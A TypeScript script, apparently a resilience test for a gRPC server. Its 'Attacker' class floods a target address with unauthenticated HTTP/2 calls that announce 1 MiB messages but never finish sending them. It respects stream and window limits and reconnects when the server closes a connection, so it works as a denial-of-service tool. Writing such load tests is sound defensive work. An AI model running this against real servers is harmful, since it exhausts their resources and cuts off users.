/**
 * Calls without credentials whose messages never end, in a process of its own: so many in so many seconds, over so many
 * connections. A connection that the server closes is opened again. Prints what became of them.
 */
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import {
  acknowledged,
  endHeaders,
  endStream,
  frameType,
  http2Frame,
  preface,
  settingsFrame,
} from "../support/http2-frames.ts";
import { callHeaders, frameHeaderBytes, initialWindow } from "./http2-pump.ts";

const [address = "", connections = "10", calls = "10000", seconds = "10", frameBytes = "16384"] =
  process.argv.slice(2);

/** Of the 1 MiB that each message announces. */
const sentBytes = Number(frameBytes) === 1 ? 32 : 32_768;
const announced = 1 << 20;
const path = "/auth.v1.UserService/GetUser";
const maxConcurrentStreams = 3;

/** The frames of one half-sent call, but for the stream's id, and where each of them begins. */
const call = (() => {
  const envelope = Buffer.alloc(5);
  envelope.writeUInt32BE(announced, 1);
  const body = Buffer.concat([envelope, Buffer.alloc(sentBytes - envelope.length)]);
  const frames = [http2Frame(frameType.headers, endHeaders, 0, callHeaders(path, address))];
  for (let at = 0; at < body.length; at += Number(frameBytes)) {
    frames.push(http2Frame(frameType.data, 0, 0, body.subarray(at, at + Number(frameBytes))));
  }
  return { bytes: Buffer.concat(frames), starts: startsOf(frames) };
})();

function startsOf(frames: readonly Buffer[]): number[] {
  let at = 0;
  return frames.map(({ length }) => {
    at += length;
    return at - length;
  });
}

const result = { opened: 0, answered: 0, reset: 0, connectionsLost: 0, mostOpen: 0 };

class Attacker {
  #socket: Socket | undefined;
  #received: Buffer = Buffer.alloc(0);
  #window = initialWindow;
  #mostStreams = 100;
  #nextStream = 1;
  #open = new Set<number>();

  get open(): number {
    return this.#open.size;
  }

  /** Opens a call if the server takes one more. */
  tryOpen(): boolean {
    this.#socket ??= this.#connect();
    if (this.#open.size >= this.#mostStreams || this.#window < sentBytes) return false;
    const bytes = Buffer.from(call.bytes);
    for (const at of call.starts) bytes.writeUInt32BE(this.#nextStream, at + 5);
    this.#open.add(this.#nextStream);
    this.#nextStream += 2;
    this.#window -= sentBytes;
    result.opened += 1;
    return this.#socket.write(bytes);
  }

  close(): void {
    this.#socket?.destroy();
  }

  #connect(): Socket {
    const { hostname, port } = new URL(`http://${address}`);
    const socket = connect(Number(port), hostname).setNoDelay();
    this.#received = Buffer.alloc(0);
    this.#window = initialWindow;
    this.#nextStream = 1;
    this.#open = new Set();
    socket.write(Buffer.concat([preface, settingsFrame()]));
    socket.on("data", (data) => this.#onData(socket, data));
    socket.on("error", () => {});
    socket.on("close", () => {
      if (this.#socket !== socket) return;
      this.#socket = undefined;
      if (!ending) result.connectionsLost += 1;
    });
    return socket;
  }

  #onData(socket: Socket, data: Buffer): void {
    const bytes = Buffer.concat([this.#received, data]);
    let at = 0;
    while (at + frameHeaderBytes <= bytes.length) {
      const end = at + frameHeaderBytes + bytes.readUIntBE(at, 3);
      if (end > bytes.length) break;
      const [type = 0, flags = 0] = bytes.subarray(at + 3, at + 5);
      this.#onFrame(
        socket,
        type,
        flags,
        bytes.readUInt32BE(at + 5),
        bytes.subarray(at + frameHeaderBytes, end),
      );
      at = end;
    }
    this.#received = bytes.subarray(at);
  }

  #onFrame(socket: Socket, type: number, flags: number, stream: number, payload: Buffer): void {
    const isAck = (flags & acknowledged) !== 0;
    if (type === frameType.windowUpdate && stream === 0) this.#window += payload.readUInt32BE(0);
    if (type === frameType.settings && !isAck) {
      for (let at = 0; at + 6 <= payload.length; at += 6) {
        if (payload.readUInt16BE(at) === maxConcurrentStreams)
          this.#mostStreams = payload.readUInt32BE(at + 2);
      }
      socket.write(http2Frame(type, acknowledged, 0, Buffer.alloc(0)));
    }
    if (type === frameType.ping && !isAck) socket.write(http2Frame(type, acknowledged, 0, payload));
    const isAnswer = type === frameType.headers && (flags & endStream) !== 0;
    if (isAnswer && this.#open.delete(stream)) result.answered += 1;
    if (type === frameType.resetStream && this.#open.delete(stream)) result.reset += 1;
  }
}

let ending = false;
const attackers = Array.from({ length: Number(connections) }, () => new Attacker());
const startedAt = performance.now();
const total = Number(calls);
for (let turn = 0; performance.now() - startedAt < Number(seconds) * 1_000; ) {
  const due = Math.min(total, ((performance.now() - startedAt) / 1_000) * (total / Number(seconds)));
  for (let refusals = 0; result.opened < due && refusals < attackers.length; turn++) {
    if (!attackers[turn % attackers.length]?.tryOpen()) refusals += 1;
  }
  const open = attackers.reduce((sum, attacker) => sum + attacker.open, 0);
  result.mostOpen = Math.max(result.mostOpen, open);
  await sleep(5);
}
ending = true;
for (const attacker of attackers) attacker.close();
process.stdout.write(JSON.stringify(result));
